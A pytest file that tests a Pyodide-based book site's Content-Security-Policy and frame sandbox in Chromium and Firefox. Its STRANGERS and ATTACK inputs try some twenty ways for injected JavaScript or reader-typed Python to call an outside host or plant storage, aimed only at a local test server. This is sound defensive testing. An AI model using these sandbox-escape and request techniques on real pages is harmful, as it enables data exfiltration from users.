"""The policy of the pages: each has one, browsers keep it, and Python cannot leave its frame."""

import base64
import functools
import hashlib
import http.server
import json
import re
import sys
import threading
from pathlib import Path

import pytest

from tests.page.conftest import BUILT

sys.path.insert(0, str(Path(__file__).parents[2] / "book" / "_ext"))

policy = pytest.importorskip("page.policy")

PAGE = "book/04_backward/2_one_layer.html"
META = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">')
HASH = re.compile(r"'sha256-[\w+/]{43}='")
INLINE = re.compile(r"<(script|style)((?:\s[^>]*)?)>(.*?)</\1>", re.DOTALL)


def directives(page):
    """The policy of a page as a dict."""
    [found] = META.findall(page)
    named = (directive.split() for directive in found.split("; "))
    return {name: sources for name, *sources in named}


# --- What is written. ---


def every_page():
    return sorted(BUILT.rglob("*.html"))


def test_the_policy_stands_before_all_that_it_is_about(built):
    for path in every_page():
        text = path.read_text("utf-8")
        place = META.search(text)
        assert place is not None, path
        assert place.start() < text.index("<head") + 200
        assert not re.search(r"<(script|style|link|img)", text[: place.start()])


def test_a_policy_allows_this_folder_and_known_lines_and_nothing_else(built):
    for path in every_page():
        text = path.read_text("utf-8")
        found = directives(text)
        python = "python-core.js" in text
        named = {"script-src": {"'self'"}, "style-src": {"'none'"}}
        if python:
            named["script-src"] |= {"'wasm-unsafe-eval'"}
            named |= {"connect-src": {"'self'"}, "worker-src": {"blob:"}}
        for name in ("default-src", "base-uri"):
            assert found.pop(name) == ["'none'"]
        for name in ("img-src", "form-action"):
            assert found.pop(name) == ["'self'"]
        letters = "katex-html" in text.partition("<main")[2]
        assert found.pop("font-src") == ["'self'", *(["data:"] if letters else [])], path
        assert found.keys() == named.keys()
        for name, sources in found.items():
            assert {s for s in sources if not HASH.fullmatch(s)} <= named[name], path


def test_the_lines_it_knows_are_few_and_the_same_everywhere(built):
    scripts, known = set(), set()
    for path in every_page():
        text = path.read_text("utf-8")
        known |= {source for source in directives(text)["script-src"] if HASH.fullmatch(source)}
        for kind, attributes, content in INLINE.findall(text):
            if kind == "script" and "src=" not in attributes and "json" not in attributes:
                scripts.add(content)
        assert not re.search(r"<[^>]*\s(?:style|on[a-z]+)=\"", text), path
        assert "javascript:" not in text
    # The mode, twice; the letters; what waits for the paint; the field of the search page.
    assert len(scripts) == 5
    digests = (base64.b64encode(hashlib.sha256(s.encode()).digest()).decode() for s in scripts)
    assert known == {*(f"'sha256-{digest}'" for digest in digests), policy.frame()}


PAGE_OF_A_CELL = (
    '<head><meta charset="utf-8" />\n<style>p{}</style><script>known()</script></head>'
    "<article><script>stranger()</script><style>b{}</style></article>"
)


def test_a_script_in_the_output_of_a_cell_is_not_known():
    sources = directives(policy.guarded(PAGE_OF_A_CELL))
    assert sources["script-src"] == ["'self'", policy.hashed("known()")]
    assert sources["style-src"] == [policy.hashed("p{}")]


def test_a_page_that_has_its_policy_is_left_alone():
    once = policy.guarded(PAGE_OF_A_CELL)
    assert policy.guarded(once) is once


# --- A style attribute as a class. ---

STYLED = """<!DOCTYPE html><html><head><meta charset="utf-8"><style>
#one { color: red } .two { margin-left: 1px } p { width: 9px !important }
#one, #one p { height: 1px } div[id=d] > p.two:not(.three) { color: red }
</style></head><body>
<p id="one" style="color: rgb(1, 2, 3); height: 7px;">a</p>
<div id="d"><p class="two" style="margin-left:3px;width:5px;color:rgb(3, 2, 1)">b</p></div>
<p style="top:1px" class="two">c</p><p style="top:2px" id="x" class="two">d</p>
<p class="two" id="y" style="--n:4;top:calc(1px * var(--n))">e</p><p style="top:1px;">f</p>
<p class="" style="font-family:&quot;Some Font&quot;">g</p>
</body></html>"""
LOOK = """() => [...document.querySelectorAll("p")].map((p) => {
  const look = getComputedStyle(p);
  return ["color", "height", "width", "marginLeft", "top", "fontFamily"].map((name) => look[name]);
})"""


@pytest.mark.browser
def test_a_style_wins_and_loses_as_a_class_as_it_did_as_an_attribute(chromium):
    page = chromium.new_page()
    page.set_content(STYLED)
    before = page.evaluate(LOOK)
    classes = policy.as_classes(STYLED)
    assert "style=" not in classes
    page.set_content(classes)
    assert page.evaluate(LOOK) == before
    # A script still has the last word.
    assert page.evaluate(
        "(p => { p.style.color = 'blue'; return getComputedStyle(p).color; })(one)"
    )
    assert page.evaluate("getComputedStyle(one).color") == "rgb(0, 0, 255)"
    page.context.close()


# --- What browsers make of it. ---


class Site(http.server.SimpleHTTPRequestHandler):
    """The built book, with edits of its files, and a place that notes who gets there."""

    edits: dict
    reached: list

    def do_GET(self):
        name = self.path.partition("?")[0].lstrip("/")
        if name.startswith("reached/"):
            self.reached.append(name.removeprefix("reached/"))
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Content-Type", "text/javascript")
            self.end_headers()
            return
        for pattern, edit in self.edits.items():
            if re.search(pattern, name):
                content = edit((BUILT / name).read_text("utf-8")).encode()
                self.send_response(200)
                self.send_header("Content-Type", self.guess_type(name))
                self.send_header("Content-Length", str(len(content)))
                self.end_headers()
                self.wfile.write(content)
                return
        super().do_GET()

    do_POST = do_GET

    def log_message(self, *arguments):
        pass


@pytest.fixture
def site(built):
    """``site(edits)`` serves the book; returns its address and the list of what reached it."""
    servers = []

    def serve(edits=None):
        reached = []
        handler = type("Edited", (Site,), {"edits": edits or {}, "reached": reached})
        server = http.server.ThreadingHTTPServer(
            ("127.0.0.1", 0), functools.partial(handler, directory=str(built))
        )
        servers.append(server)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        return f"http://127.0.0.1:{server.server_port}/", reached

    yield serve
    for server in servers:
        server.shutdown()
        server.server_close()


# Each would ask the address, or run a stranger's script, if the page let it.
MAKE = "const made = Object.assign(document.createElement(%r), %s); document.body.append(made);"
STRANGERS = {
    "picture": MAKE % ("img", "{src: address}"),
    "script": MAKE % ("script", "{src: address}"),
    "frame": MAKE % ("iframe", "{src: address}"),
    "style": MAKE % ("link", "{rel: 'stylesheet', href: address}"),
    "lines": MAKE % ("script", "{text: 'fetch(address)'}"),
    "form": MAKE % ("form", "{action: address}") + " made.submit();",
    "fetch": "fetch(address, {mode: 'no-cors'}).catch(() => {})",
    "beacon": "navigator.sendBeacon(address)",
    "attribute": "document.body.insertAdjacentHTML('beforeend',"
    ' `<img src="${address}" onerror="fetch(address)">`)',
}


def without_policy(page):
    return META.sub("", page)


@pytest.mark.browser
@pytest.mark.parametrize("guarded", [True, False], ids=["policy", "none"])
def test_no_other_host_is_asked_whatever_runs_in_a_page(site, chromium, load, violations, guarded):
    other, reached = site()
    address, _ = site({} if guarded else {r"\.html$": without_policy})
    page = chromium.new_page()
    for number, (name, script) in enumerate(STRANGERS.items(), 1):
        load(page, f"{address}book/notation.html")
        page.evaluate(
            f"address => {{ window.address = address; {script} }}", f"{other}reached/{name}"
        )
        for _ in range(20):  # a request arrives and a refusal is told in its time
            page.wait_for_timeout(150)
            if len(violations) >= number if guarded else name in reached:
                break
    page.context.close()
    told, violations[:] = violations[:], []
    if guarded:
        assert reached == []
        assert len(told) >= len(STRANGERS)
    else:
        assert {*reached} == {*STRANGERS}
        assert told == []


@pytest.mark.browser
def test_firefox_opens_pages_from_a_server_without_complaint(site, firefox):
    address, _ = site()
    for name in ("book/intro.html", "book/notation.html", PAGE, "search.html?q=notation"):
        page = firefox.open(address + name)
        if not name.startswith("search"):
            page.wait("'ready' in document.documentElement.dataset")
        page.evaluate("new Promise((done) => setTimeout(done, 300))")
        assert page.errors == []
        asked = {url for url in page.asked if url.startswith("http")}
        assert {url for url in asked if not url.startswith(address)} == set()
        page.close()


# --- Python, which runs what a reader types. ---

RUN = """async (code) => {
  let said = "";
  const on = { progress() {}, begin() {}, output(text) { said += text; } };
  const request = { lesson: "policy", cells: [code], number: 0 };
  const answer = await nnlibPython.python.run(request, on);
  return said + (answer.error ?? "");
}"""

LISTEN = """async () => {
  self.heard = [];
  self.channel = new BroadcastChannel("book");
  channel.onmessage = ({ data }) => heard.push(data);
  addEventListener("message", ({ data }) => heard.push(data));
}"""
KEPT = """async () => [
  heard,
  (await indexedDB.databases()).map(({ name }) => name),
  self.caches ? await caches.keys().catch(() => []) : [],
]"""

ATTACK = """
import sys

import js
from pyodide.ffi import create_proxy, to_js
from pyodide.http import open_url

told = sys.told = {}


def attempt(name, do):
    told[name] = "went through"
    try:
        found = do(f"{OTHER}reached/{name}")
        if hasattr(found, "then"):
            told[name] = "waits"
            found.then(
                lambda _: told.__setitem__(name, "went through"),
                lambda _: told.__setitem__(name, "refused"),
            )
    except BaseException as error:
        told[name] = "refused"


def options(**given):
    return to_js(given, dict_converter=js.Object.fromEntries)


def request(url, *, wait):
    sent = js.XMLHttpRequest.new()
    sent.open("GET", url, not wait)
    sent.send()


def nested(url):
    blob = js.Blob.new(to_js([f"fetch('{url}', {{mode: 'no-cors'}})"]))
    sys.worker = js.Worker.new(js.URL.createObjectURL(blob))


def keep(url):
    js.indexedDB.open("taken")


def broadcast(url):
    js.BroadcastChannel.new("book").postMessage("forged")


attempt("fetch", lambda url: js.fetch(url))
attempt("no-cors", lambda url: js.fetch(url, options(mode="no-cors")))
attempt("prototype", lambda url: js.Object.getPrototypeOf(
    js.Object.getPrototypeOf(js.self)).fetch.call(js.self, url))
attempt("waiting", lambda url: request(url, wait=True))
attempt("request", lambda url: request(url, wait=False))
attempt("open_url", lambda url: open_url(url).read() and None)
attempt("socket", lambda url: js.WebSocket.new(url.replace("http", "ws")) and None)
attempt("events", lambda url: js.EventSource.new(url) and None)
attempt("scripts", lambda url: js.importScripts(url))
attempt("nested", nested)
attempt("function", lambda url: js.Function.new(f"fetch('{url}')")())
attempt("eval", lambda url: js.eval(f"fetch('{url}')") and None)
attempt("own", lambda url: js.fetch(SITE))
attempt("database", keep)
attempt("cache", lambda url: js.caches.open("taken"))
attempt("channel", broadcast)
attempt("folder", lambda url: js.navigator.storage.getDirectory())
attempt("forged", lambda url: js.postMessage("forged"))
"""
# What a browser gives no answer about at once, but only does or does not do.
SILENT = {"socket", "events", "nested", "channel", "forged", "request"}


def without_sandbox(script):
    """python-core.js with a frame of the site's own origin."""
    before, after = 'setAttribute("sandbox", "allow-scripts")', 'removeAttribute("sandbox")'
    assert before in script
    return script.replace(before, after)


def without_rules(script):
    """python-core.js with a frame that has no policy."""
    meta = r'<meta http-equiv="Content-Security-Policy".*?>(?=<script>)'
    open_frame, changed = re.subn(meta, "", script, flags=re.DOTALL)
    assert changed == 1
    return open_frame


class InChromium:
    def __init__(self, browser, address):
        self.page = browser.new_context().new_page()
        self.page.goto(address)

    def call(self, function, argument=None):
        return self.page.evaluate(function, argument)

    def close(self):
        self.page.context.close()


class InFirefox:
    def __init__(self, browser, address):
        self.page = browser.open(address)

    def call(self, function, argument=None):
        return self.page.evaluate(f"({function})({json.dumps(argument)})")

    def close(self):
        self.page.close()


@pytest.fixture(params=["chromium", "firefox"])
def tab(request, violations):
    """``tab(address)`` opens a page in a browser; its ``call`` runs a function there."""
    browser = request.getfixturevalue(request.param)
    kind = {"chromium": InChromium, "firefox": InFirefox}[request.param]
    opened = []

    def open_tab(address):
        opened.append(kind(browser, address))
        ready = "() => new Promise((done) => { const look = () => self.nnlibPython ? done(true)"
        opened[-1].call(f"{ready} : setTimeout(look, 50); look(); }})")
        return opened[-1]

    yield open_tab
    for one in opened:
        one.close()
    violations.clear()  # to try is no fault of the page


def attack(tab, address, other):
    """Let Python try to get out of a page; return what it was told, and what the page keeps."""
    page = tab(address)
    page.call(LISTEN)
    names = f"OTHER, SITE = {other!r}, {address!r}\n"
    said = page.call(RUN, names + ATTACK)
    assert said == ""
    page.call("() => new Promise((done) => setTimeout(done, 1500))")
    told = json.loads(page.call(RUN, "import json, sys\nprint(json.dumps(sys.told))"))
    return told, page.call(KEPT)


@pytest.mark.browser
@pytest.mark.parametrize("where", ["server", "folder", "another book"])
def test_what_a_reader_types_reaches_nothing(built, site, tab, where):
    """In another book, whose pages have no policy, the frame's own has to do."""
    other, reached = site()
    address, own = site({r"\.html$": without_policy} if where == "another book" else {})
    base = f"{built.as_uri()}/" if where == "folder" else address
    told, (heard, databases, caches) = attack(tab, base + PAGE, other)
    assert reached == own == []
    assert heard == []
    assert "taken" not in databases + caches
    assert len(told) == 18
    assert {name: told[name] for name in told.keys() - SILENT if told[name] != "refused"} == {}


@pytest.mark.browser
@pytest.mark.parametrize("edit", [without_sandbox, without_rules])
def test_each_of_the_frames_two_guards_is_needed(site, tab, edit):
    other, reached = site()
    address, _ = site({r"\.html$": without_policy, r"/python-core\.js$": edit})
    _, (heard, databases, caches) = attack(tab, address + PAGE, other)
    if edit is without_sandbox:
        assert reached == []
        assert "forged" in heard
        assert "taken" in databases
        assert "taken" in caches
    else:
        asking = {"fetch", "no-cors", "prototype", "waiting", "request", "open_url", "socket"}
        assert asking | {"events", "scripts", "nested", "function", "eval"} == {*reached}
        assert heard == databases == caches == []
